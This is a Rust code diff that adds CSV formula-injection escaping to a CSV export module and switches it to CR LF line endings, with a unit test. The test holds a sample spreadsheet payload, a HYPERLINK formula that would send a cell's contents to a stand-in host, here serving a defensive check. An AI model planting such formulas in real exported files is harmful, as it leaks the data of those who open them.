@@ -1,6 +1,13 @@
 //! RFC 4180 csv: a header of column ids, fields quoted when they hold a
-//! comma, quote or line break. A file starts with a UTF-8 byte-order mark,
-//! which Excel needs to read Chinese and DuckDB and pandas skip.
+//! comma, quote or line break, lines ending CR LF. A file starts with a
+//! UTF-8 byte-order mark, which Excel needs to read Chinese and DuckDB and
+//! pandas skip.
+//!
+//! The text comes from the tables units sent in, and the file is made to
+//! be opened in Excel: a text that starts with `=`, `+`, `-`, `@`, a tab or
+//! a carriage return would be run as a formula there (a link that sends the
+//! sheet away, say). Such a text is written with a leading `'`, as OWASP
+//! advises; numbers are numbers and are written as they are.
 
 use std::io::{self, Write};
 
@@ -11,12 +18,16 @@ pub struct CsvSink {
 }
 
 fn field(text: &str, out: &mut String) {
+    let text = match text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        true => format!("'{text}"),
+        false => text.to_string(),
+    };
     if text.contains([',', '"', '\n', '\r']) {
         out.push('"');
         out.push_str(&text.replace('"', "\"\""));
         out.push('"');
     } else {
-        out.push_str(text);
+        out.push_str(&text);
     }
 }
 
@@ -26,7 +37,7 @@ impl CsvSink {
             out.write_all("\u{feff}".as_bytes())?;
         }
         let head: Vec<&str> = columns.iter().map(|c| c.id).collect();
-        writeln!(out, "{}", head.join(","))?;
+        write!(out, "{}\r\n", head.join(","))?;
         Ok(Self { out })
     }
 }
@@ -80,6 +91,21 @@ mod tests {
         assert_eq!(
             line(&row),
             "\"甲,乙\",\"说\"\"明\"\"\",,92.5,,3,\"两\n行\"\r\n"
+        );
+    }
+
+    #[test]
+    fn a_text_excel_would_run_as_a_formula_is_written_as_text() {
+        let row = vec![
+            Value::Text(Some("=HYPERLINK(\"http://x/?\"&A2,\"点此\")".into())),
+            Value::Text(Some("@SUM(1+1)".into())),
+            Value::Text(Some("-".into())),
+            Value::Text(Some("义务教育 = 营养".into())),
+            Value::Number(Some(-3.8)),
+        ];
+        assert_eq!(
+            line(&row),
+            "\"'=HYPERLINK(\"\"http://x/?\"\"&A2,\"\"点此\"\")\",'@SUM(1+1),'-,义务教育 = 营养,-3.8\r\n"
         );
     }
 }
